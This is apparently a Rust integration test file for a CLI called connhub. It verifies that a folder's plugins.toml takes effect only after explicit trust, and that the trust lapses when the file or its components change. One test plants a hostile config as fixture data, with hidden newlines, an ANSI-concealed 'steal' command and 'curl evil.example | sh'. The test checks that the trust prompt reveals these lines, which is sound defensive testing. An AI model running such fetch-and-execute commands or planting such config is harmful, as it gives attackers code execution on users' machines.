//! A `plugins.toml` in the current directory: it counts only after `connhub trust`, and only as it was then.

use std::path::Path;

use super::*;

const PROJECT: &str = "version = 1\n\n[connectors.mine]\ncomponent = \"mine.wasm\"\n[connectors.mine.vault]\n\n[backends.mine]\nconnector = \"mine\"\n";

/// A user in a folder with a project of its own.
fn project() -> TestEnv {
    let env = TestEnv::new();
    let bytes = fs_err::read(connhub_tests::cli::components().join("local.wasm")).unwrap();
    env.file("mine.wasm", bytes);
    env.file("plugins.toml", PROJECT);
    env
}

#[test]
fn a_project_counts_only_after_it_was_trusted() {
    let env = project();
    let outcome = env.run(["list", "--backend", "mine"]);
    insta::assert_snapshot!(outcome, @"
    exit code: 3
    --- stderr ---
    warning: `$FILES/plugins.toml` is ignored, since you have not said that you trust it; look at it, and say so with `connhub trust`
    error: there is no backend `mine`

    hint: use one of dataos, local, rhoai, vault-kv, or add `[backends.mine]` to $HOME/plugins.toml
    ");
    // What does not need it works as ever.
    env.run(["list"]).succeeds();
    env.run(["trust"]).fails(2, "nobody can be asked here whether to trust it");
    insta::assert_snapshot!(env.run(["trust", "--yes"]), @r#"
    exit code: 0
    --- stdout ---
    `$FILES/plugins.toml` counts from now on, as it is now
    --- stderr ---
    connector mine: $FILES/mine.wasm (sha256 [SHA256])
      is granted: vault
    `$FILES/plugins.toml` says:
      version = 1
      [backends.mine]
      connector = "mine"
      [connectors.mine]
      component = "mine.wasm"
      [connectors.mine.vault]
    "#);
    let outcome = env.run(["list", "--backend", "mine"]).succeeds();
    assert_eq!(outcome.stderr.matches("warning").count(), 0, "{outcome}");
    let record = env.home().join("state/trusted.toml");
    let mode =
        std::os::unix::fs::PermissionsExt::mode(&fs_err::metadata(record).unwrap().permissions());
    assert_eq!(mode & 0o777, 0o600);
    // It is the folder's, not everybody's.
    env.command(["list", "--backend", "mine"]).inside(&env.home()).run().exits_with(3);
}

#[test]
fn everything_that_will_count_is_shown_before() {
    let env = project();
    let hidden = "\n".repeat(300);
    let more = r#"
[vault]
key = "command"
command = ["sh", "-c", "curl evil.example | sh"]
recovery = "age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p"

[backends.mine.endpoints.api]
url = "https://evil.example"
login = { scheme = "bearer", command = ["steal", "\u001b[8mmore"] }
"#;
    env.file("plugins.toml", format!("{PROJECT}{hidden}{more}"));
    let shown = env.run(["trust", "--yes"]).succeeds().stderr;
    for line in [
        r#"command = ["sh", "-c", "curl evil.example | sh"]"#,
        r#"recovery = "age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p""#,
        r#"url = "https://evil.example""#,
        r#"command = ["steal", "\u001B[8mmore"]"#,
    ] {
        assert!(shown.contains(&format!("\n  {line}\n")), "no `{line}` in:\n{shown}");
    }
    assert!(!shown.contains('\u{1b}') && !shown.contains("\n\n\n"), "{shown}");
}

#[test]
fn a_change_of_the_file_the_lock_or_a_component_ends_the_trust() {
    let env = project();
    let list = ["list", "--backend", "mine"];
    let trust = || drop(env.run(["trust", "--yes"]).succeeds());
    trust();
    env.run(list).succeeds();
    env.file("plugins.toml", format!("{PROJECT}\n"));
    env.run(list).fails(3, "since it or its lock has changed since you trusted it");
    env.file("plugins.toml", PROJECT);
    env.run(list).succeeds();
    env.file("plugins.lock", "version = 2\n");
    env.run(list).fails(3, "changed since you trusted it");
    trust();
    env.run(list).succeeds();
    let bytes = fs_err::read(env.files().join("mine.wasm")).unwrap();
    env.file("mine.wasm", [bytes.as_slice(), b"\0\x05\x04more"].concat());
    env.run(list).fails(8, "connector `mine` is not the one that you trusted");
    trust();
    env.run(list).succeeds();
}

#[test]
fn trust_can_be_looked_at_and_taken_back() {
    let env = project();
    assert_eq!(env.run(["trust", "--list", "-o", "name"]).succeeds().stdout, "");
    env.run(["trust", "--yes"]).succeeds();
    let listed = env.run(["trust", "--list", "-o", "json"]).succeeds().json();
    assert_eq!(listed["items"][0]["state"], "trusted");
    env.file("plugins.toml", format!("{PROJECT}\n"));
    let listed = env.run(["trust", "--list", "-o", "json"]).succeeds().json();
    assert_eq!(listed["items"][0]["state"], "changed");
    env.file("plugins.toml", PROJECT);
    env.run(["trust", "--revoke"]).succeeds();
    env.run(["list", "--backend", "mine"]).fails(3, "is ignored");
    env.run(["trust", "--revoke"]).fails(3, "is not trusted");
}

#[test]
fn a_file_that_is_named_needs_no_trust() {
    let env = project();
    let outcome = env.run(["list", "--backend", "mine", "--plugins", "plugins.toml"]).succeeds();
    assert!(!outcome.stderr.contains("ignored"), "{outcome}");
    // Nor does the user's own file, wherever the user is.
    env.plugins("version = 1\n[backends.own]\nconnector = \"local\"\n");
    let own = env.command(["list", "--backend", "own"]).inside(&env.home()).run().succeeds();
    assert!(!own.stderr.contains("ignored"), "{own}");
}

#[test]
fn what_cannot_be_trusted_is_said() {
    let env = project();
    env.run(["trust", "nobody/plugins.toml", "--yes"]).fails(3, "no such folder");
    let other = env.file("other.toml", PROJECT);
    env.run(["trust", other.to_str().unwrap(), "--yes"]).fails(2, "is not named `plugins.toml`");
    fs_err::remove_file(env.files().join("mine.wasm")).unwrap();
    env.run(["trust", "--yes"]).fails(3, "the component of connector `mine` cannot be read");
    env.file("plugins.toml", "version = 1\nsockets = true\n");
    env.run(["trust", "--yes"]).fails(2, "plugins.toml:2: unknown field `sockets`");
}

#[test]
fn a_project_cannot_replace_what_is_there_before_it_is_trusted() {
    let env = project();
    let hostile = PROJECT.replace("mine", "local").replace("local.wasm", "mine.wasm");
    env.file("plugins.toml", hostile);
    let listed = env.run(["plugin", "list", "-o", "json"]).succeeds().json();
    let local = listed["items"].as_array().unwrap().iter().find(|item| item["name"] == "local");
    let component = local.unwrap()["component"].as_str().unwrap().to_owned();
    assert!(Path::new(&component).starts_with(connhub_tests::cli::components()), "{component}");
}
